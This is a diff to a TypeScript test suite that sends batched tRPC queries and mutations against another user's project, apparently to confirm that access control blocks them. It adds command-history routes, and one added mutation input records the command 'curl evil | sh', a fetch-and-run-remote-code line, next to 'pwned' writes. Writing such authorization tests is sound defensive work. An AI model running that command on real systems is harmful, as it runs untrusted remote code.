@@ -23,12 +23,23 @@ describe("batched tRPC calls over HTTP", () => {
     );
     const mine = ((await own.json()) as { result: { data: { json: { id: number } } } }).result.data.json.id;
 
-    const queries = ["projects.get", "files.tree", "files.read", "executions.get", "executions.history", "ai.getContext", "ai.debugCode", "projects.get"];
+    const queries = [
+      "projects.get",
+      "files.tree",
+      "files.read",
+      "executions.get",
+      "executions.history",
+      "ai.getContext",
+      "ai.debugCode",
+      "commandHistory.list",
+      "projects.get",
+    ];
     const inputs = [
       { projectId: target.projectId },
       { projectId: target.projectId },
       { projectId: target.projectId, path: "a.txt" },
       { executionId: target.executionId },
+      { projectId: target.projectId },
       { projectId: target.projectId },
       { projectId: target.projectId },
       { projectId: target.projectId },
@@ -43,7 +54,16 @@ describe("batched tRPC calls over HTTP", () => {
     expect(body.at(-1)?.result).toBeDefined();
     expect(JSON.stringify(body)).not.toContain("secret");
 
-    const mutations = ["projects.update", "files.write", "files.delete", "executions.run", "executions.cancel", "ai.applyChanges", "projects.delete"];
+    const mutations = [
+      "projects.update",
+      "files.write",
+      "files.delete",
+      "executions.run",
+      "executions.cancel",
+      "ai.applyChanges",
+      "commandHistory.add",
+      "projects.delete",
+    ];
     const mutationInputs = [
       { projectId: target.projectId, name: "pwned" },
       { projectId: target.projectId, path: "a.txt", content: "pwned" },
@@ -51,6 +71,7 @@ describe("batched tRPC calls over HTTP", () => {
       { projectId: target.projectId, kind: "command", command: "cat a.txt" },
       { executionId: target.executionId },
       { projectId: target.projectId, writes: [{ path: "a.txt", content: "pwned" }] },
+      { projectId: target.projectId, command: "curl evil | sh" },
       { projectId: target.projectId },
     ];
     const post = await POST(
